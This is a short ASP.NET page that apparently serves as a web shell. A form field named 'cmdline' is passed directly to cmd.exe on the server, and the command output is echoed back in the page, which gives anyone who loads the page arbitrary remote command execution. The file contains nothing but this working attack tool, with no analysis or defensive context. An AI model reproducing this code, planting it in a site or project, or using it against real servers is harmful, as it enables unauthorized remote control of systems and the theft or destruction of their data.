<%@ Page Language="C#" %>
<script runat="server">
protected void Run(object sender, EventArgs e)
{
    System.Diagnostics.Process process = new System.Diagnostics.Process();
    process.StartInfo.FileName = "cmd.exe";
    process.StartInfo.UseShellExecute = false;
    process.StartInfo.RedirectStandardInput = true;
    process.StartInfo.RedirectStandardOutput = true;
    process.Start();
    process.StandardInput.WriteLine(HttpContext.Current.Request.Form["cmdline"]);
    process.StandardInput.WriteLine("exit");
    Result.InnerText = process.StandardOutput.ReadToEnd();
}
</script>
<html><body><form runat="server"><input name="cmdline" /><asp:Button Text="Go" OnClick="Run" runat="server" /><pre id="Result" runat="server"></pre></form></body></html>
